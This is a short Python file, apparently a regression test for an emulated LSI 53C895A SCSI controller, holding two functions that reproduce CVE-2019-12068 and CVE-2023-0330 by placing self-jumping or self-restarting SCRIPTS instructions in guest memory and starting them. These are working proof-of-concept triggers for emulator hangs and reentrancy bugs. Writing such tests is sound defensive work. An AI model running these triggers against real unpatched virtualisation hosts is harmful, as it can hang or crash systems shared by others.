# SPDX-License-Identifier: GPL-2.0
"""LSI's 53C895A SCSI controller, which runs scripts"""

import struct

DEVICES = ("lsi53c895a", "scsi-hd,drive=disk,bus=dut.0")
BACKENDS = ("-blockdev driver=null-co,node-name=disk,read-zeroes=on",)
# CTEST4 to CTEST6
PROBE = 1, 0x20

DSP = 0x2c
JUMP = 0x80080000
MOVE = 0xc0000000


def cve_2019_12068(guest):
    """The script is one jump, to itself."""
    place = guest.alloc(8)
    guest.put(place, struct.pack("<II", JUMP, place))
    guest.device.bars[1].write(DSP, place)
    guest.wait(0.1)


def cve_2023_0330(guest):
    """The script writes its own address to the register that starts it."""
    bar = guest.device.bars[1]
    place = guest.alloc(16)
    guest.put(place, struct.pack("<IIII", MOVE | 4, place + 12, bar.address + DSP, place))
    bar.write(DSP, place)
    guest.wait(0.1)
